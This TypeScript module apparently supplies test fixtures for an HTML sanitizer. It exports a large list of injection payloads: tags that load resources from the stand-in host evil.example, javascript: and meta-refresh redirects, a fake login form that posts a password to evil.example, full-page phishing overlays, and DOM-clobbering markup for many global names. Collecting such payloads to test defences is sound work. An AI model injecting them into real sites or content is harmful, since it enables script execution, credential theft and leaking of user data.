/** Text that tries to send a request, to take the page elsewhere, to lie over it, or to take the place of its names. */
import { around } from "./combine.ts";

const at = "https://evil.example/x";

const loading = [
  `<img src=${at}>`,
  `<img srcset="${at} 1x, ${at}2 2x" sizes=1px>`,
  `<img loading=eager decoding=sync src=//evil.example/x>`,
  `<img lowsrc=${at} dynsrc=${at} longdesc=${at}>`,
  `<image src=${at}>`,
  `<picture><source srcset=${at}><img></picture>`,
  `<video src=${at} autoplay muted></video>`,
  `<video poster=${at}></video>`,
  `<audio src=${at} preload=auto></audio>`,
  `<video><source src=${at}></video>`,
  `<video src=x><track default kind=captions src=${at}></video>`,
  `<iframe src=${at}></iframe>`,
  `<iframe srcdoc='<img src=${at}>'></iframe>`,
  `<iframe src="data:text/html,<img src=${at}>"></iframe>`,
  `<fencedframe config=${at}></fencedframe>`,
  `<portal src=${at}></portal>`,
  `<frameset><frame src=${at}></frameset>`,
  `<object data=${at}></object>`,
  `<object type=text/html><param name=src value=${at}></object>`,
  `<embed src=${at}>`,
  `<applet archive=${at} code=x></applet>`,
  `<input type=image src=${at}>`,
  `<isindex type=image src=${at}>`,
  `<body background=${at}>`,
  `<table background=${at}><tr><td background=${at}>x</table>`,
  `<bgsound src=${at}>`,
  `<html manifest=${at}>`,
  `<script src=${at}></script>`,
  `<script type=module src=${at}></script>`,
  `<script async defer crossorigin src=${at}></script>`,
  `<svg><image href=${at}></svg>`,
  `<svg><image xlink:href=${at}></svg>`,
  `<svg><use href=${at}#a></svg>`,
  `<svg><script href=${at} /></svg>`,
  `<svg><filter><feImage href=${at} /></filter></svg>`,
  `<svg><rect fill="url(${at}#a)" filter="url(${at}#b)" width=9 height=9></svg>`,
  `<svg><a href=${at}><animate attributeName=href values=javascript:alert(1) /></a></svg>`,
  `<svg><style>@import "${at}";</style></svg>`,
  `<style>@import "${at}";</style>`,
  `<style>@import url(//evil.example/x)</style>`,
  `<style>@font-face{font-family:x;src:url(${at})}*{font-family:x}</style>`,
  `<style>*{background:url(${at})}</style>`,
  `<style>*{background:image-set("${at}" 1x)}</style>`,
  `<style>*{list-style:url(${at});cursor:url(${at}),auto;content:url(${at})}</style>`,
  `<style>@namespace x url(${at}); input[value^=a]{background:url(${at}?a)}</style>`,
  `<style media=print onload=this.media='all'>*{background:url(${at})}</style>`,
  `<div style="background:url(${at})">x</div>`,
  `<div style="background-image:\\75rl(${at})">x</div>`,
  `<div style="width:10px;height:10px;mask:url(${at});border-image:url(${at}) 1;shape-outside:url(${at})">x</div>`,
  `<p style='list-style:url("${at}")'>x</p>`,
  `<font color=x face=x style=background:url(${at})>x</font>`,
  `<?xml-stylesheet href="${at}"?>`,
  `<?import namespace=x implementation=${at}?>`,
  `<math><maction xlink:href=${at}>x</maction></math>`,
];

const links = (
  "stylesheet prefetch preload prerender preconnect dns-prefetch modulepreload icon manifest import alternate next " +
  "search expect pingback apple-touch-icon"
).split(" ").map((rel) => `<link rel="${rel}" as=script href=${at}>`);

const leaving = [
  `<meta http-equiv=refresh content="0;url=${at}">`,
  `<meta http-equiv="refresh" content="0; url=javascript:alert(1)">`,
  `<meta http-equiv=refresh content='0;data:text/html,<script>alert(1)</script>'>`,
  `<META HTTP-EQUIV="Refresh" CONTENT="0;URL=//evil.example">`,
  `<meta http-equiv=Set-Cookie content="login=x">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<meta http-equiv=Accept-CH content=DPR><meta name=referrer content=unsafe-url>`,
  `<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
  `<base href=${at}><a href=y>x</a><img src=z>`,
  `<base target=_top href=javascript:alert(1)//>`,
  `<form action=${at}><input name=password><button autofocus>Log in</button></form>`,
  `<form action=javascript:alert(1)><input type=submit></form>`,
  `<form method=dialog action=${at}><input type=image></form>`,
  `<button formaction=javascript:alert(1) form=f>x</button><form id=f></form>`,
  `<input type=submit formaction=${at} formmethod=post formtarget=_top>`,
  `<isindex action=javascript:alert(1) type=submit>`,
  `<a href=${at} ping=${at} target=_self>x</a>`,
  `<a href=${at} download=x.exe>x</a>`,
  `<a href=${at} attributionsrc>x</a>`,
  `<map name=m><area shape=default href=javascript:alert(1)></map><img usemap=#m src=x>`,
  `<a href="&#x6A;avascript:alert(1)">x</a>`,
  `<a href="java\tscript:alert(1)">x</a>`,
  `<a href="\x01javascript:alert(1)">x</a>`,
  `<a href="javascript&colon;alert(1)">x</a>`,
  `<a xlink:href=javascript:alert(1)>x</a>`,
  `<svg><a><animate attributeName=href to=javascript:alert(1) begin=0s /><text y=9>x</text></a></svg>`,
  `<svg><a xml:base="javascript:alert(1)//" href="#">x</a></svg>`,
  `<math xlink:href=javascript:alert(1)>x</math>`,
  `<math><mrow href=javascript:alert(1)>x</mrow></math>`,
];

const covering = [
  `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Log in again</div>`,
  `<dialog open style="position:fixed;inset:0">Log in</dialog>`,
  `<div popover=manual id=p>x</div><button popovertarget=p>x</button>`,
  `<div class="fixed inset-0 z-50 bg-surface">x</div>`,
  `<main id=main tabindex=-1 accesskey=x>x</main>`,
  `<div role=alert aria-live=assertive class=toast>Session lost</div>`,
  `<h1 style=font-size:9999px>x</h1>`,
  `<style>*{display:none!important}</style>`,
  `<style>body::before{content:"Log in";position:fixed;inset:0}</style>`,
  `<link rel=stylesheet href=/styles.css>`,
  `<template id=message-template><p>x</p></template>`,
  `<article data-message-id=x data-role=assistant data-status=streaming>x</article>`,
  `<input type=password name=password autocomplete=current-password>`,
  `<button type=submit name=action value=delete>x</button>`,
  `<form method=post action=/settings/advanced><input name=action value=reset></form>`,
];

/** What a page's own scripts would find in place of what they look for. */
const clobberable =
  ("location document body head cookie attributes childNodes parentNode firstChild nextSibling innerHTML textContent " +
    "nodeName children ownerDocument getElementById querySelector createElement forms scripts images links defaultView " +
    "currentScript activeElement documentElement implementation __proto__ constructor hasOwnProperty toString valueOf " +
    "alert fetch eval trustedTypes customElements crypto indexedDB localStorage sessionStorage navigator history " +
    "self top parent opener frames name status length closed origin config app main chat message Message conversation " +
    "submit action method elements reset target nodeType matches closest remove append dataset style classList")
    .split(" ");

const clobbering = clobberable.flatMap((name, index) => [
  [
    `<a id=${name}>x</a><a id=${name} name=x href=cid:x>y</a>`,
    `<form name=${name}><input name=${name}></form>`,
  ][index % 2]!,
  [
    `<img name=${name} src=x>`,
    `<iframe name=${name} srcdoc=x></iframe>`,
    `<object id=${name} data=x></object>`,
  ][index % 3]!,
]);

export const requestPayloads: string[] = [
  ...loading,
  ...links,
  ...leaving,
  ...covering,
  ...clobbering,
  ...around(
    ["<svg><foreignObject>§</foreignObject></svg>", "<template shadowrootmode=open>§</template>"],
    loading.slice(0, 20),
  ),
];
